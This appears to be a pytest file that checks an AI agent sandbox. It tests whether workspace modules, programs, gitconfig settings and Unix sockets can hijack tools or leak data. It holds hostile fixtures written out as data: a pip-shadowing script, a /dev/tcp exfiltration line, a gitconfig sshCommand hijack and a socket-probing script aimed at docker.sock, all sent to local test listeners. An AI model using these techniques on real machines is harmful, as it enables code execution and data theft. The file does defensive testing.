"""What an agent's command reaches: the network of a tool, the workspace's sockets, names from a file."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.support.agent_server import ORDINARY, USERS, Agent, AgentServer, SharedAgentServer, share_place
from tests.support.git_server import Listener

SHADOW = """
import pathlib, socket
pathlib.Path("ran").touch()
socket.create_connection(("127.0.0.1", {port})).sendall(b"stolen")
"""
PROGRAM = "#!/bin/bash\ntouch ran\nexec 3<>/dev/tcp/127.0.0.1/{port}; echo stolen >&3\n"


@pytest.fixture(scope="module", params=USERS)
def shared_place(request: pytest.FixtureRequest) -> Iterator[SharedAgentServer]:
    with share_place(request.param) as place:
        yield place


@pytest.fixture
def place(shared_place: SharedAgentServer) -> AgentServer:
    shared_place.clear()
    return shared_place


@contextmanager
def listen() -> Iterator[Listener]:
    """A host that an agent's program would reach with the network of the machine."""
    listener = Listener()
    try:
        yield listener
    finally:
        listener.close()


def approve(agent: Agent, line: str, **more: Any) -> dict[str, Any]:
    """Run a line that asks, and approve it as the person."""
    message = agent.start({"type": "shell", "command": line})
    assert message["status"] == "awaiting_approval", message
    return agent.decide(message, **more)


MODULES = ("pip.py", "runpy.py", "sitecustomize.py", "usercustomize.py", "encodings/__init__.py", "sub/pip/__main__.py")


def test_a_module_of_the_workspace_does_not_stand_in_for_a_tool(place: AgentServer) -> None:
    with listen() as listener, place.start() as agent:
        port = listener.origin.rpartition(":")[2]
        for name in MODULES:
            written = agent.call("writeFile", path=name, content=SHADOW.format(port=port), createDirectories=True)
            assert written.status == 200, written
        for line in ("python3 -m pip install ./none", "cd sub && python3 -mpip install ./none", "pip install ./none"):
            message = approve(agent, line)
            assert "Invalid requirement" in str(message), message  # the installed pip has run
        assert not list(place.root.rglob("ran"))
        assert listener.heard == []
        # The module is a program of the workspace: by its own name it runs, without the network.
        agent.run("python3 pip.py")
        assert (place.root / "ran").exists()
        assert listener.heard == []


def test_a_tool_that_the_workspace_can_change_is_not_remembered(place: AgentServer) -> None:
    with place.start() as agent:
        for line in ("python3 -m pip install numpy", "pip install .", "npm install"):
            message = agent.start({"type": "shell", "command": line})
            body = {"approvalId": message["pendingApproval"]["approvalId"], "decision": "approved", "remember": True}
            path = f"wap/runs/{message['runId']}/decision?wait=60"
            status, refused = agent.server.request("POST", path, json.dumps(body))
            assert (status, refused["code"]) == (400, "INVALID_ARGUMENT"), line


def test_a_program_of_the_workspace_is_not_the_tool(place: AgentServer) -> None:
    (place.root / "bin").mkdir()
    with listen() as listener, place.start() as agent:
        port = listener.origin.rpartition(":")[2]
        for name in ("pip", "bin/pip"):
            (place.root / name).write_text(PROGRAM.format(port=port))
            (place.root / name).chmod(0o755)
        for program in ("./pip", "bin/pip", f"{place.root}/pip"):
            approve(agent, f"{program} install numpy")
            assert (place.root / "ran").exists()
            (place.root / "ran").unlink()
        assert listener.heard == []


def test_a_neighbour_writes_no_settings_for_a_tool(place: AgentServer) -> None:
    """In the home folder of a sandbox they would be obeyed."""
    with listen() as listener, place.start() as agent:
        port = listener.origin.rpartition(":")[2]
        (place.root / "steal.py").write_text(SHADOW.format(port=port))
        (place.root / "evil").write_text(f"[core]\n\tsshCommand = python3 {place.root}/steal.py\n")
        (place.root / "home").symlink_to(place.home)
        for line in (
            "cp evil ~/.gitconfig && git clone ssh://127.0.0.1/x y",
            "cp evil home/.gitconfig && git clone ssh://127.0.0.1/x y",
            "cat evil > home/.gitconfig; git clone ssh://127.0.0.1/x y",
        ):
            approve(agent, line)
        assert listener.heard == []


SOCKET = """
import os, socket, stat
for folder, _, names in os.walk("."):
    for name in names:
        path = os.path.join(folder, name)
        if name.endswith(".sock") or name.endswith(".ipc"):
            connection = socket.socket(socket.AF_UNIX)
            try:
                connection.connect(path)
                connection.sendall(b"stolen")
                print("reached", path)
            except OSError as error:
                print("closed", path)
"""


def test_sockets_of_the_workspace_are_closed(place: AgentServer) -> None:
    names = ("docker.sock", "deep/er/agent.sock", ".git/fsmonitor--daemon.ipc")
    heard: list[bytes] = []
    subprocess.run(["git", "init", "-q", place.root], check=True)
    with place.start() as agent:
        (place.root / "find.py").write_text(SOCKET)
        assert "reached" not in agent.run("python3 find.py").text
        with serve(place, names[:2], heard), serve(place, names[2:], heard):
            for line in ("python3 find.py", "cd deep && python3 ../find.py"):
                answer = agent.run(line)
                assert "reached" not in answer.text, answer
                assert answer.body["stdout"].count("closed") >= 1, answer
            assert agent.call("readFile", path="docker.sock").status >= 400
        made = "import socket; socket.socket(socket.AF_UNIX).bind('made.sock')"
        agent.run(f'python3 -c "{made}"')
        assert not (place.root / "made.sock").exists()
    assert heard == []


@contextmanager
def serve(place: AgentServer, names: tuple[str, ...], heard: list[bytes]) -> Iterator[None]:
    """Listen at sockets in the workspace, as programs outside of the sandbox do."""
    before = os.getcwd()
    os.chdir(place.root)  # the name of a socket is short
    sockets = []
    try:
        for name in names:
            Path(name).parent.mkdir(parents=True, exist_ok=True)
            listening = socket.socket(socket.AF_UNIX)
            listening.bind(name)
            listening.listen()
            if place.user == "ordinary":
                os.chown(name, ORDINARY, ORDINARY)
            sockets.append(listening)
    finally:
        os.chdir(before)

    def accept(listening: socket.socket) -> None:
        try:
            while True:
                with closing(listening.accept()[0]) as connection:
                    heard.append(connection.recv(100))
        except OSError:
            return

    threads = [threading.Thread(target=accept, args=(each,)) for each in sockets]
    for thread in threads:
        thread.start()
    yield
    for each in sockets:
        each.shutdown(socket.SHUT_RDWR)
        each.close()
    for thread in threads:
        thread.join()


@pytest.fixture(scope="module", params=USERS)
def unconfined(request: pytest.FixtureRequest) -> Iterator[SharedAgentServer]:
    with share_place(request.param, provider="local", allow_unconfined=True) as place:
        (place.home / "outside").mkdir()
        (place.home / "outside/private").write_text("x")
        (place.root / "list").write_text(f"{place.home}/outside\0")
        yield place


@pytest.mark.parametrize(
    "line", ["find -files0-from list", "wc --files0-from=list", "sha256sum -c list", "strings @list"]
)
def test_names_from_a_file_ask_where_nothing_confines_a_command(unconfined: AgentServer, line: str) -> None:
    with unconfined.start() as agent:
        answer = agent.run(line)
        assert "private" not in answer.text
        assert answer.status == 409 or "approval" in answer.text.lower(), answer
